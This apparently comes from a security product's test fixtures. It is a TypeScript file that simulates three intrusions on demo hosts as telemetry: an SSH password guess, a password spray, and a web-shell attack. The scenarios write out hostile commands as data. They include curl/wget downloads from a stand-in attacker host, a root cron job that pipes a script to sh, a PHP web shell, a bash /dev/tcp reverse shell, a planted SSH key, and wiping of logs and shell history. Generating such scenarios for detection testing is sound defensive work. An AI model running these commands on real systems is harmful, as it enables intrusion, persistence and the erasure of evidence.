// How somebody gets in from outside, and what they do first.
import { Activity } from '@threatguard/proto';
import { ATTACKERS, PEOPLE, ROOT } from '../cast.ts';
import { daysBefore, MINUTE_US, minutesBefore, SECOND_US, type Story } from './story.ts';

const LOOK_AROUND = ['id', 'whoami', 'uname -a', 'hostname', 'ss -tnp', 'ps aux', 'ifconfig', 'netstat -an', 'arp -a'];

/** T1110.001 and T1078, then T1033, T1082, T1105, T1053.003 and T1098.004. */
export const guessedPassword: Story = {
  name: 'a password is guessed over SSH, and cron keeps the way open',
  beginsUs: daysBefore(6, 3, 10),
  tell({ atUs, on }) {
    const stage = on('demo-web-3');
    const { guesser, dropSite } = ATTACKERS;
    for (let each = 0; each < 34; each++) {
      stage.logon(atUs + each * 5 * SECOND_US, 'deploy', guesser, { ok: false });
    }
    const deploy = { name: 'deploy', id: 1100 };
    const shell = stage.session(atUs + 3 * MINUTE_US, deploy, guesser, 'password');
    let nextUs = stage.type(atUs + 4 * MINUTE_US, shell, LOOK_AROUND);
    const fetch = ['curl', '-fsSL', '-o', '/tmp/.cache', `http://${dropSite}/s.sh`];
    const curl = stage.run(nextUs, shell, '/usr/bin/curl', fetch);
    stage.connection(nextUs, curl, { address: dropSite, port: 80 }, { sent: 400, received: 48_000 });
    nextUs = stage.type(nextUs + 8 * SECOND_US, shell, ['chmod +x /tmp/.cache', '/tmp/.cache --install']);
    const job = `*/10 * * * * root curl -fsSL http://${dropSite}/s.sh | sh`;
    stage.file(nextUs + 20 * SECOND_US, '/etc/cron.d/apt-compat', [job], Activity.FILE_CREATED);
    stage.file(nextUs + 40 * SECOND_US, '/root/.ssh/authorized_keys', ['ssh-ed25519 AAAAC3NzaC1demo backup@host']);
  },
};

/** T1110.003 over several hosts; nobody is let in. */
export const spray: Story = {
  name: 'one address tries everybody on four hosts',
  beginsUs: minutesBefore(5 * 60),
  tell({ atUs, on }) {
    const hosts = ['demo-bastion-1', 'demo-mail-1', 'demo-web-2', 'demo-app-2'];
    for (const [at, host] of hosts.entries()) {
      const stage = on(host);
      for (const [each, { name }] of PEOPLE.slice(0, 8).entries()) {
        const tryUs = atUs + (at * 40 + each * 5) * SECOND_US;
        stage.logon(tryUs, name, ATTACKERS.sprayer, { ok: false });
      }
    }
  },
};

/** T1505.003 and T1059.004, then T1033, T1105, T1543.002 and T1070.002. */
export const webShell: Story = {
  name: 'a web shell among the uploads opens a reverse shell',
  beginsUs: minutesBefore(48),
  tell({ atUs, on }) {
    const stage = on('demo-web-1');
    const www = { name: 'www-data', id: 33 };
    const nginx = stage.service(www, '/usr/sbin/nginx');
    const { dropSite, collector } = ATTACKERS;
    const upload = '/var/www/shop/uploads/2026/invoice.php';
    stage.file(atUs, upload, ['<?php system($_REQUEST["c"]); ?>'], Activity.FILE_CREATED);
    let nextUs = atUs + MINUTE_US;
    for (const line of ['whoami', 'id', 'uname -a', 'cat /etc/passwd', 'ps aux', 'ss -tnp']) {
      const dash = stage.run(nextUs, nginx, '/usr/bin/dash', ['sh', '-c', line]);
      stage.type(nextUs + 50_000, dash, [line]);
      nextUs += 9 * SECOND_US;
    }
    const wget = ['wget', '-q', `http://${dropSite}/l.pl`, '-O', '/var/tmp/.l'];
    const fetched = stage.run(nextUs, nginx, '/usr/bin/wget', wget);
    stage.connection(nextUs, fetched, { address: dropSite, port: 80 }, { sent: 300, received: 9_000 });
    const command = `bash -i >& /dev/tcp/${collector}/4444 0>&1`;
    const opener = stage.run(nextUs + MINUTE_US, nginx, '/usr/bin/bash', ['bash', '-c', command]);
    const socket = { address: collector, port: 4444 };
    const shell = stage.run(nextUs + MINUTE_US + 300_000, opener, '/usr/bin/bash', ['bash', '-i'], { socket });
    stage.connection(nextUs + MINUTE_US, opener, socket, { sent: 61_000, received: 5_200 });
    nextUs = stage.type(nextUs + 2 * MINUTE_US, shell, ['find / -perm -4000 -type f', 'sudo -l', 'cat /proc/version']);
    const root = { ...shell, user: ROOT };
    stage.file(nextUs + 30 * SECOND_US, '/etc/systemd/system/dbus-cache.service', [
      '[Service]',
      'ExecStart=/var/tmp/.l --daemon',
      'Restart=always',
    ]);
    const wipe = ['rm', '-f', '/var/log/auth.log', '/var/log/wtmp'];
    stage.run(nextUs + 70 * SECOND_US, root, '/usr/bin/rm', wipe, { user: ROOT });
    const history = ['bash', '-c', 'unset HISTFILE; history -c; rm -f /root/.bash_history'];
    stage.run(nextUs + 80 * SECOND_US, root, '/usr/bin/bash', history, { user: ROOT });
  },
};
